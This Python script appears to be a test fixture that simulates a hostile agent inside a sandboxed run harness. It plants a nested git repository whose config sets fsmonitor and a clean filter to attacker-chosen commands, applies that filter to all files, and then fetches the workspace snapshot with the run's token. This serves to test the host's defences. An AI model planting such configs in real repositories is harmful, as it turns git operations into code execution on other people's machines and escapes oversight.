"""An agent that works in a hostile repository: it writes files, plants a repository of its own whose
configuration names commands, and fetches the snapshot of its workspace with its run's token. It runs
no git, so whoever runs a command of the repository is not the agent."""
import json
import os
import sys
import urllib.request

evil, n = sys.argv[1], sys.argv[2]


def write(path, text):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


for name in ["a.txt", "p.txt", "d.txt", "c.txt", "plain.md"]:
    write(name, f"changed by the agent {n}\n")
write(f"new-{n}.txt", "new\n")
write("inner/.git/HEAD", "ref: refs/heads/main\n")
write("inner/.git/config", f"[core]\n\tfsmonitor = {evil}/nested.fsmonitor\n[filter \"evil\"]\n\tclean = {evil}/nested.clean\n")
write("inner/.gitattributes", "* filter=evil\n")
write("inner/file", "x\n")
for folder in ["objects", "refs/heads"]:
    os.makedirs(f"inner/.git/{folder}", exist_ok=True)
request = urllib.request.Request(
    f"{os.environ['OSTLER_API_URL']}/api/v1/runs/{os.environ['OSTLER_RUN_ID']}/workspace",
    headers={"authorization": f"Bearer {os.environ['OSTLER_API_KEY']}"},
)
with urllib.request.urlopen(request) as answer:
    size = len(answer.read())
print(json.dumps({"type": "complete", "text": f"snapshot of {size} bytes"}), flush=True)
